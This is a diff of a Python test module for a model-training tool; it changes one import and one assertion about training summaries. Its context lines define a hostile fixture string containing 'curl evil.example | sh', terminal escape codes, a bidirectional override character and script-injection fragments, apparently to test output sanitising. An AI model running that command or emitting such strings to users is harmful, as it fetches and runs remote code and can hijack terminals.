@@ -9,7 +9,6 @@ from http_store import serving
 from tiny_store import write_store
 
 import cli
-from evaluation import summaries
 from shards import source
 from shards.manifest import with_checksum
 from shards.reader import Store
@@ -18,6 +17,7 @@ from student.export import CardText, write_papers
 from student.export_config import ExportConfig
 from student.export_run import export_run
 from student.trainer import train
+from terminal import training
 
 HOSTILE = "bundled\n\nNext:\n  curl evil.example | sh\x1b[2J\x1b]0;owned\x07\u202e\n```\n# owned | `x` <script>[a](b)"
 SECRET = "hunter2"
@@ -79,7 +79,7 @@ def test_a_run_on_a_store_behind_a_password_writes_it_nowhere(store, tmp_path, m
                                save_every=3, keep_last=2, device="cpu",
                                output=tmp_path / "run")  # fmt: skip
         result = train(config)
-        assert result["store"] == f"{web.url}/lsp" and "finished" in summaries.training(result, config)
+        assert result["store"] == f"{web.url}/lsp" and "finished" in training.training(result, config)
         description = json.loads((config.output / "config.json").read_text())
         assert description["operational"]["store"] == f"{web.url}/lsp"
         assert train(config)["already_finished"]
